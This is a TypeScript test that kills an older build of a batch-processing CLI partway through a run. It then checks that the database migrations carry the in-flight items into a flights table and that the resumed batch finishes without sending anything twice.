  // The resq of a commit before 019 (its schema 016's: 017, 019 and 020 apply on open), or before 020 (019's schema: 020 alone applies), from git.
  it.each([
    { before: '019_lean_items', commit: COMMIT_BEFORE_019, lastOld: '016_decision_log_person' },
    { before: '020_batch_num_keys', commit: COMMIT_BEFORE_020, lastOld: '019_lean_items' },
  ])('from before $before: the items in flight (owner, token, lease, pending key, run, step) move into flights, every row keeps its batch by batch_num, and the batch resumes to its end with nothing sent twice', async ({ before: name, commit, lastOld }) => {
    const sim: Sim = await startSim({ defaultDurationMs: 100, seed: 19 });
    onTestFinished(() => sim.close());
    const url = await server.createDatabase(`mig_midbatch_${name.slice(0, 3)}`);
    const dir = tempDir();
    const items = fixtureItems('300ms', 2);
    const { questions, policy } = writeFixture(dir, items);
    const env = { RESQ_API_KEY: sim.keys[0]!, RESQ_LEASE_MS: '1500' };
    const args = ['run', questions, '--db', url, '--batch', 'midway', '--policy', policy, '--base-url', sim.url, '--concurrency', '6', '--out', join(dir, 'out'), '--json'];
    // The old code's worker killed with SIGKILL mid-batch: items in flight, each with its key stored.
    const victim = spawnOldResq(commit, args, env);
    const victimDone = collect(victim);
    let seen = 0;
    await new Promise<void>((resolve) => {
      victim.stdout?.on('data', (d: Buffer) => {
        seen += d.toString().split('\n').filter((l) => l.includes('"type":"item"')).length;
        if (seen >= 4) resolve();
      });
      victim.on('close', () => resolve());
    });
    victim.kill('SIGKILL');
    const killed = await victimDone;
    expect(killed.stderr).toBe('');
    expect(killed.signal).toBe('SIGKILL');

    // The database as the old code left it: its migrations those this code ships before `name` (none edited since), its items in flight on their rows (019's: in flights).
    const c = await client(url);
    c.on('error', () => {});
    const old = await client(await server.createDatabase(`mig_reference_${name.slice(0, 3)}`));
    type Flying = { id: string; state: string; owner: string | null; fence: number; lease_until: string | null; pending_key: string | null; run_id: string | null; step: number };
    const flightsSql = `SELECT i.id, f.state, f.owner, f.fence::int AS fence, f.lease_until::text, f.pending_key, f.run_id, f.step
                        FROM flights f JOIN items i ON i.key = f.item_key ORDER BY i.seq`;
    const flyingSql = name === '019_lean_items'
      ? `SELECT id, state, owner, fence::int AS fence, lease_until::text, pending_key, run_id, step FROM items
         WHERE state IN ('submitting', 'running', 'waiting') ORDER BY seq`
      : flightsSql;
    let before: Flying[];
    let rows: Record<string, unknown>[];
    try {
      const applied = (await c.query<{ name: string }>('SELECT name FROM _migrations ORDER BY name')).rows.map((r) => r.name);
      const shipped = pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === name));
      expect(applied.at(-1), 'the last migration the old code applied').toBe(lastOld);
      expect(applied).toEqual(shipped.slice(0, applied.length).map((m) => m.name));
      await migratePg(old, shipped.slice(0, applied.length));
      expect(await schemaOf(c)).toEqual(await schemaOf(old));
      before = (await c.query<Flying>(flyingSql)).rows;
      expect(before.length).toBeGreaterThan(0);
      // Held by the killed worker, each by its token; the key of what is to be sent stored before it is.
      expect(before.filter((r) => r.owner === null || r.fence < 1)).toEqual([]);
      expect(before.filter((r) => r.state !== 'running' && r.pending_key === null)).toEqual([]);
      // The counts by state agree with the rows (the triggers of 012 followed the rows back).
      const kept = (await c.query(`SELECT state, sum(n)::int AS n FROM item_counts GROUP BY state HAVING sum(n) <> 0 ORDER BY state`)).rows;
      expect(kept).toEqual((await c.query(`SELECT state, count(*)::int AS n FROM items GROUP BY state ORDER BY state`)).rows);
      rows = await rowsByBatch(c, 'id');
      // Runs and a worker beside the items: the tables a batch writes while it runs have rows to move.
      for (const t of ['items', 'runs', 'workers', 'item_counts']) expect(rows.some((r) => r.t === t), t).toBe(true);
    } finally {
      await old.end();
    }

    // Opened by this code: the migrations apply, the items in flight are in flights as they were.
    const store = await PostgresStore.open(url);
    try {
      const moved = await c.query<Flying>(flightsSql);
      expect(moved.rows).toEqual(before);
      // No table keeps the batch's text id (batches' own id is `id`); each row is its batch's by batch_num.
      expect((await c.query(`SELECT table_name FROM information_schema.columns WHERE table_schema = 'public' AND column_name = 'batch_id'`)).rows).toEqual([]);
      expect(await rowsByBatch(c, 'num')).toEqual(rows);
      // The approved cost kept running from the decisions there were.
      const spend = await c.query(`SELECT coalesce((SELECT sum(approved) FROM batch_spend), 0) AS kept, (SELECT coalesce(sum(cost), 0) FROM decisions) AS summed`);
      expect(spend.rows[0].kept).toBe(spend.rows[0].summed);
      const batch = (await store.findBatch('midway'))!;
      for (const r of before) expect(await store.getItem(batch.id, r.id)).toMatchObject({ state: r.state, owner: r.owner, fence: r.fence, pendingKey: r.pending_key, runId: r.run_id, step: r.step });
    } finally {
      await store.close();
      await c.end();
    }

    // Resumed to its end against the same simulator: every question admitted once, each answer whole.
    const last = await runCliChild(['resume', 'midway', '--db', url, '--out', join(dir, 'out'), '--json'], env);
    expect(last.stderr).not.toContain('internal error');
    expect(last.code, last.stderr).toBe(1); // the @fail items fail, nothing else
    const counters = sim.counters();
    for (const it of items) expect(counters.admissionsByInput[it.question] ?? 0, it.id).toBe(1);
    expect(counters.respondRuns).toBe(items.reduce((n, it) => n + it.pauses, 0));
    const after = await PostgresStore.open(url);
    try {
      const batch = (await after.findBatch('midway'))!;
      const rows: ExportRow[] = [];
      for await (const r of exportRows(after, batch)) rows.push(r);
      expectBatchWhole(rows, items, sim.ledger());
      const check = await client(url);
      try {
        expect((await check.query('SELECT count(*)::int AS n FROM flights')).rows[0].n).toBe(0);
        // The decisions made after the migration were added to the running total, none twice.
        const spend = await check.query(`SELECT coalesce((SELECT sum(approved) FROM batch_spend), 0) AS kept, (SELECT coalesce(sum(cost), 0) FROM decisions) AS summed`);
        expect(spend.rows[0].kept).toBe(spend.rows[0].summed);
      } finally {
        await check.end();
      }
    } finally {
      await after.close();
    }
  }, 240_000);
});
